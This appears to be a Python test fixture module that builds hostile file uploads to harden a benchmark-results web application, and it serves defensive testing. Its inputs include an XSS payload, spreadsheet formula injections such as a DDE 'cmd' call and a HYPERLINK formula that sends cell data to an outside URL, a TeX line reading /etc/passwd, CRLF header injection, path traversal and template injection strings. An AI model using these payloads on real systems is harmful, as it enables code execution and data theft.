"""Constructed uploads whose content is hostile: case -> (name of the upload, bytes)."""

from __future__ import annotations

import json
import random
import string
from collections.abc import Callable

from webapp.tests import samples

Case = Callable[[], tuple[str, bytes]]
CASES: dict[str, Case] = {}

HTML = "</script><img src=x onerror=alert(1)>&amp;'\"</td></table>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
CONTROLS = "a\x01b\x0bc\x1b[31md\x7fe\x85f\ufffeg"
BIDI = "\u202egnp.exe\u2066x\u200f"
TEX = "$\\frac{1$ \\input{/etc/passwd} _^#%&~{}"
LABELS = {
    "html": HTML,
    "formula": FORMULA,
    "controls": CONTROLS,
    "bidi": BIDI,
    "tex": TEX,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "template": "{{ 7*7 }}{% url 'x' %}{0.__class__}%s%(x)s",
    "blanks": "  x  ",
    "wide": "\u4e00" * 3000,
    "long": "n" * 20_000,
    "zalgo": "a" + "\u0301" * 2000,
    "noncharacter": "\uffff\ufdd0\U0001ffff",
    "line-feeds": "a\r\nSet-Cookie: x=1\r\n\r\nb",
    "tab": "\tx",
    "quotes": "\"'`;|",
    "null-word": "null",
    "tilde": "~",
}
NUMBERS = {
    "1e308": "1e308",
    "1.79e308": "1.797e308",
    "1e309": "1e309",
    "tiny": "5e-324",
    "nan": "nan",
    "inf": "inf",
    "minus-inf": "-inf",
    "minus-zero": "-0.0",
    "zero": "0",
    "digits": "9" * 5000,
    "fraction": "0." + "1" * 5000,
}
DATES = {
    "year-9999": "9999-12-31T23:59:59+14:00",
    "year-0": "0000-00-00T00:00:00",
    "year-1": "0001-01-01T00:00:00+14:00",
    "year-99999": "99999-01-01",
    "html": HTML,
    "negative": "-0001-13-45",
}


def _cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def table(label: str = "plain", *values: str, date: str = "", note: str = "Table 3") -> bytes:
    """A results table whose texts are the label."""
    rows = [
        _row(metric, value, label, date, note)
        for metric in ("write.throughput", "read.throughput")
        for value in values or ("81.2", "83.5", "79.9")
    ]
    head = (
        "metric,value,unit,tool,origin,source_note,started_at,params.file_size,params.access,params.api,config.host,"
        "config.cpu.model,config.os.name,config.pool.layout,config.fs.type,config.kernel"
    )
    return "\n".join([head, *rows]).encode()


def _row(metric: str, value: str, label: str, date: str, note: str) -> str:
    return ",".join(map(_cell, (metric, value, "MB/s", "bonnie++", "reported", note, date, "1G", label, label, *[label] * 6)))


def _transcript(name: str) -> bytes:
    """A terminal's log whose host, processor and command carry the text."""
    host = name.encode()
    return samples.dd(2.5, 2.6).replace(b"tank:~#", host + b":~#").replace(b"Linux tank ", b"Linux " + host + b" ")


def _manifest(text: str) -> bytes:
    return samples.tar({"poolmark.toml": text.encode(), "run/dd.txt": samples.dd(2.5, 2.6), "run/t.csv": table("x")})


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def _all_of(text: str) -> str:
    told = _toml(text)
    return (
        f"title = {told}\nauthors = [{told}, {told}]\nlicence = {told}\ndoi = {told}\npublished_in = {told}\ncaveat = {told}\n"
        f"year = 2015\nstudy = {told}\n[configuration]\nhost = {told}\ncpu.model = {told}\nos.name = {told}\n"
        f"[configuration.x]\n{told} = {told}\n"
    )


MANIFESTS = {
    "wrong-types": 'title = 1979-05-27T07:32:00Z\nauthors = {a = 1}\nlicence = [["x"], 2, {b = []}]\nyear = inf\nstudy = 07:32:00\n'
    "caveat = nan\n[configuration]\nmemory = [1]\ncpu.cores = -9223372036854775808\nhost = 1979-05-27\n",
    "years": "title = 'y'\nyear = 99999999999999999999\n[configuration]\ncpu.cores = 99999999999999999999999\n"
    "memory = '1e300 GiB'\n",
    "million-digits": f"title = 'x'\nyear = {'9' * 4000}\n[configuration]\ncpu.cores = {'9' * 4000}\n",
    "million-digits-2": f"title = 'x'\n[configuration]\nmemory = {'9' * 1_000_000}\n",
    "nested": "title = 'x'\n[configuration]\npool = " + "[" * 200 + "]" * 200 + "\n",
    "files": '[files]\n"../../x" = 3\n[files."(?:a+)+$"]\nhost = "x"\n[files."run/"]\nhost = [1]\n',
    "not-toml": "title = 'x\n\x00\x01[[[",
    "keys": '"{{ title }}" = 1\n"__proto__" = "x"\n"" = "y"\n[configuration]\n"" = "z"\n"zfs.<b>" = "x"\n"a=b&c" = "d"\n',
    **{f"text-{name}": _all_of(text) for name, text in LABELS.items()},
    "text-megabyte": f"title = '{'m' * 2**20}'\nauthors = '{'; '.join(['Ann Rae'] * 20_000)}'\nlicence = '{'l' * 2**20}'\n",
}


def _fio() -> bytes:
    job = {
        "jobname": HTML,
        "groupid": 0,
        "error": 0,
        "job options": {"rw": FORMULA, "bs": "4k", "iodepth": "1e400", "size": HTML},
        **{
            kind: {
                "io_bytes": 2**70,
                "bw_bytes": 1e308,
                "bw": 1e305,
                "iops": 1e308,
                "runtime": 1000,
                "total_ios": 3,
                "clat_ns": {"min": 1, "max": 2, "mean": 1e308, "stddev": 0, "N": 3, "percentile": {"99.000000": 10**400}},
            }
            for kind in ("read", "write")
        },
    }
    return json.dumps({"fio version": HTML, "timestamp": 10**30, "time": CONTROLS, "jobs": [job]}).encode()


def _random(length: int) -> str:
    """Text that no compression makes short: too long for an entry of a database's index."""
    return "".join(random.Random(1).choices(string.ascii_letters, k=length))


def _bonnie() -> bytes:
    return (
        "1.97,1.97,"
        + HTML.replace(",", "")
        + ",1,99999999999999999999,16G,,"
        + ",".join(["9" * 400, "99"] * 6)
        + ",16,,,,,"
        + ",".join(["+++++", "+++"] * 6)
        + "\n"
    ).encode()


for _name, _text in LABELS.items():
    CASES[f"label-{_name}"] = lambda text=_text: ("table.csv", table(text, note=text))
    CASES[f"host-{_name}"] = lambda text=_text: ("terminal.txt", _transcript(text[:200]))
for _name, _text in NUMBERS.items():
    CASES[f"number-{_name}"] = lambda text=_text, name=_name: ("numbers.csv", table(f"n{name}", text, text, text))
for _name, _text in DATES.items():
    CASES[f"date-{_name}"] = lambda text=_text, name=_name: ("dates.csv", table(f"d{name}", date=text))
for _name, _text in MANIFESTS.items():
    CASES[f"manifest-{_name}"] = lambda text=_text: ("stated.tar", _manifest(text))
CASES |= {
    "fio": lambda: ("fio.json", _fio()),
    "bonnie": lambda: ("bonnie.csv", _bonnie()),
    "dd-forever": lambda: ("dd.txt", samples.dd(1e-300, 1e300)),
    "dd-zero": lambda: ("dd.txt", samples.dd(2.5).replace(b"2.5 s", b"0 s")),
    "incompressible-path": lambda: ("long.tar", samples.tar({f"{_random(200)}/{_random(3300)}.log": samples.dd(2.7)})),
    "incompressible-host": lambda: ("host.csv", table(_random(20_000))),
    "upload-name": lambda: ('a\r\nb\u202e";x=y\x01.txt', samples.dd(2.9)),
    "upload-formula": lambda: ("=cmd|' /C calc'!A0.txt", samples.dd(3.1)),
    "formula-path": lambda: (
        "formula.tar",
        samples.tar({"=1+1.csv": table("x", "71.5"), "@SUM(A1)": samples.dd(3.3), "-1.5": samples.dd(3.4), "+3": samples.dd(3.5)}),
    ),
    "odd-paths": lambda: ("odd.tar", samples.tar({"a\nb.log": samples.dd(3.6), "run/a?b#c%d&e.log": samples.dd(3.7)})),
}
